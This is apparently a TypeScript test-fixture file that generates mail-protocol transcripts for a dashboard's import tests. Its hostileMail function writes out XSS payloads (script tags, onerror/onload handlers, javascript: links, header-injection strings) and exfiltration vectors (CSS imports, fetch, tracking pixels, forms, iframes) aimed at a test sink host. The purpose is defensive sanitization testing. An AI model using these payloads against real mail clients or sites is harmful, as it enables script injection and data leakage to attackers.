// Transcripts the dashboard tests import through POST /api/import (C:/S: style): a mail
// with an attachment, a hostile mail, sessions for the filters, and a generator for a
// session of any number of events.

const b64 = (s: string) => Buffer.from(s).toString('base64')

function smtpSession(opts: { user: string; password: string; from: string; to: string; message: string[]; ehlo?: string }): string {
  const lines = [
    'S: 220 mail.test ESMTP Postfix',
    `C: EHLO ${opts.ehlo ?? 'client.test'}`,
    'S: 250-mail.test',
    'S: 250-PIPELINING',
    'S: 250-STARTTLS',
    'S: 250-AUTH PLAIN LOGIN',
    'S: 250 8BITMIME',
    `C: AUTH PLAIN ${b64(`\u0000${opts.user}\u0000${opts.password}`)}`,
    'S: 235 2.7.0 Authentication successful',
    `C: MAIL FROM:<${opts.from}>`,
    'S: 250 2.1.0 Ok',
    `C: RCPT TO:<${opts.to}>`,
    'S: 250 2.1.5 Ok',
    'C: DATA',
    'S: 354 End data with <CR><LF>.<CR><LF>',
    ...opts.message.map((l) => `C: ${l.startsWith('.') ? `.${l}` : l}`.trimEnd()),
    'C: .',
    'S: 250 2.0.0 Ok: queued as 4F2A31C0D',
    'C: QUIT',
    'S: 221 2.0.0 Bye',
  ]
  return lines.join('\n') + '\n'
}

export const ATTACHMENT_NAME = 'q3-figures.csv'
export const ATTACHMENT_BODY = 'region,revenue\nnorth,1200\nsouth,980\n'
export const REPORT_SUBJECT = 'Quarterly report for the board'
export const REPORT_PASSWORD = 'Sup3r-s3cret!'

export function mailWithAttachment(): string {
  return smtpSession({
    user: 'olivia',
    password: REPORT_PASSWORD,
    from: 'olivia@mail.test',
    to: 'board@mail.test',
    message: [
      'From: Olivia <olivia@mail.test>',
      'To: The Board <board@mail.test>',
      `Subject: ${REPORT_SUBJECT}`,
      'Date: Thu, 26 Nov 2026 09:00:00 +0000',
      'Message-ID: <report-1@mail.test>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="b1"',
      '',
      '--b1',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'Hello, the figures are attached.',
      '',
      '--b1',
      `Content-Type: text/csv; name="${ATTACHMENT_NAME}"`,
      `Content-Disposition: attachment; filename="${ATTACHMENT_NAME}"`,
      'Content-Transfer-Encoding: base64',
      '',
      b64(ATTACHMENT_BODY),
      '--b1--',
    ],
  })
}

export const HOSTILE_SUBJECT = `</h2><script>alert('subject')</script><img src=x onerror="alert('subject-img')">`

/** A mail that tries everything; `exfil` is where it would leak to (the tests run a sink there). */
export function hostileMail(exfil: string): string {
  const html = [
    '<html><head>',
    `<style>@import url(${exfil}/import.css); body{background:url(${exfil}/bg.png)} input[value^="a"]{background:url(${exfil}/attr)}</style>`,
    `<link rel="stylesheet" href="${exfil}/link.css">`,
    `<meta http-equiv="refresh" content="0;url=${exfil}/refresh">`,
    '</head><body>',
    `<script>document.body.setAttribute('data-pwned','script');alert('script');fetch('${exfil}/fetch')</script>`,
    `<img src="x" onerror="document.body.setAttribute('data-pwned','onerror');alert('onerror')">`,
    `<img src="${exfil}/pixel.gif" alt="pixel">`,
    `<p>Hello <a id="js" href="javascript:alert('link')">javascript link</a> and <a id="ext" href="${exfil}/click">a tracked link</a></p>`,
    `<svg onload="alert('svg')"><circle r="5"/></svg>`,
    `<form action="${exfil}/form"><input name="q" value="a"><button id="submit">go</button></form>`,
    `<iframe src="${exfil}/frame"></iframe>`,
    `<object data="${exfil}/object"></object>`,
    '</body></html>',
  ]
  return smtpSession({
    user: 'mallory',
    password: 'mallorypw',
    from: 'mallory@evil.test',
    to: 'victim@mail.test',
    message: [
      `From: "<svg onload=alert('from')>" <mallory@evil.test>`,
      'To: victim@mail.test',
      `Subject: ${HOSTILE_SUBJECT}`,
      `X-Break: "><script>alert('header')</script>`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/alternative; boundary="hb"',
      '',
      '--hb',
      'Content-Type: text/plain; charset=utf-8',
      '',
      `<script>alert('text')</script> plain part`,
      '',
      '--hb',
      'Content-Type: text/html; charset=utf-8',
      '',
      ...html,
      '--hb--',
    ],
  })
}

export function pop3Session(user: string): string {
  return [
    'S: +OK Dovecot ready.',
    `C: USER ${user}`,
    'S: +OK',
    `C: PASS ${user}pw`,
    'S: +OK Logged in.',
    'C: STAT',
    'S: +OK 0 0',
    'C: QUIT',
    'S: +OK Logging out.',
  ].join('\n')
}

export function imapSession(user: string): string {
  return [
    'S: * OK [CAPABILITY IMAP4rev1 LITERAL+ AUTH=PLAIN] Dovecot ready.',
    `C: a1 LOGIN ${user} ${user}pw`,
    'S: a1 OK Logged in',
    'C: a2 SELECT INBOX',
    'S: * 0 EXISTS',
    'S: a2 OK [READ-WRITE] Select completed.',
    'C: a3 LOGOUT',
    'S: * BYE Logging out',
    'S: a3 OK Logout completed.',
  ].join('\n')
}

/** An SMTP session with a rejected recipient: an error finding. */
export function smtpRejected(user: string): string {
  return [
    'S: 220 mail.test ESMTP Postfix',
    'C: EHLO client.test',
    'S: 250 mail.test',
    `C: AUTH PLAIN ${b64(`\u0000${user}\u0000${user}pw`)}`,
    'S: 235 2.7.0 Authentication successful',
    'C: MAIL FROM:<a@mail.test>',
    'S: 250 2.1.0 Ok',
    'C: RCPT TO:<nobody@nowhere.invalid>',
    'S: 554 5.7.1 <nobody@nowhere.invalid>: Relay access denied',
    'C: QUIT',
    'S: 221 2.0.0 Bye',
  ].join('\n')
}

/** An SMTP session of about `events` events: NOOP/250 pairs between a greeting and QUIT. */
export function longSession(events: number): string {
  const pairs = Math.max(1, Math.floor((events - 4) / 2))
  const out: string[] = ['S: 220 mail.test ESMTP Postfix', 'C: EHLO client.test', 'S: 250 mail.test']
  for (let i = 0; i < pairs; i++) out.push(`C: NOOP ${i + 1}`, 'S: 250 2.0.0 Ok')
  out.push('C: QUIT', 'S: 221 2.0.0 Bye')
  return out.join('\n') + '\n'
}
